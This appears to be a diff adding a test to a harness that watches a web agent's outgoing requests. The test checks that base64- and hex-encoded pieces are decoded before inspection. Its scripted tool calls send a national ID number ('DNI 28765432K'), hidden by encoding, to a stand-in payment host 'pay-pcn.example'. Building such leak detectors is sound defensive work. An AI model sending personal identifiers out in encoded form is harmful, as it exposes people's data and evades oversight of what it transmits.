@@ -251,3 +251,21 @@ async def test_requests_and_submissions(tmp_path: Path) -> None:
     assert len(web.requests(ev)) == 2
     (sub,) = web.submissions(ev)
     assert web.fields(sub.item) == {"a": "1", "b": "2", "c": "x=y"}
+
+
+async def test_payload_carries_what_base64_and_hex_pieces_decode_to(tmp_path: Path) -> None:
+    import base64
+
+    b64 = base64.b64encode(b"28765432K").decode()
+    ev = await _play(
+        tmp_path,
+        ("fetch_webpage", {"url": f"https://pay-pcn.example/check?ref={b64}"}),
+        (
+            "submit_form",
+            {"url": "https://pay-pcn.example/pay", "fields": {"t": b"DNI 28765432K".hex()}},
+        ),
+        ("submit_form", {"url": "https://pay-pcn.example/pay", "fields": {"reg": "WP21 KXD"}}),
+    )
+    texts = [f.item.text for f in web.outgoing(ev)]
+    assert "28765432K" in texts[0] and "DNI 28765432K" in texts[1]
+    assert "28765432K" not in texts[2] and "reg=WP21 KXD" in texts[2]
